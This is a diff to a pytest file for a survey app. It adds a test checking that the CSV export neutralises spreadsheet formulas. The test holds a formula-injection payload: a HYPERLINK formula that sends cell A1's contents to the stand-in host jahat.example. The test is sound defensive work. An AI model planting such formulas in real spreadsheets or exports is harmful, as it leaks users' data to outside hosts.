@@ -1,6 +1,8 @@
 """Surveys: who answers, one response each, anonymous answers with a rate limit and a
 honeypot, results by RW with the small-cell rule, CSV for staff, the needs hook."""
 
+import csv
+import io
 from datetime import timedelta
 
 import pytest
@@ -161,6 +163,14 @@ def test_results_pages_and_csv(client, survey, resident, staff):
     csv_page = client.get(f"/survei/{survey.pk}/hasil.csv")
     text = csv_page.content.decode()
     assert "sablon" in text and resident.email not in text
+
+
+def test_csv_cells_cannot_run_as_formulas(survey, resident):
+    formula = '=HYPERLINK("http://jahat.example/?"&A1,"Klik")'
+    rules.respond(survey, resident, answers(survey, text=formula))
+    rows = list(csv.reader(io.StringIO(rules.csv_export(survey))))
+    assert rows[1][-1] == "'" + formula
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
 
 
 def test_private_results(client, survey, resident):
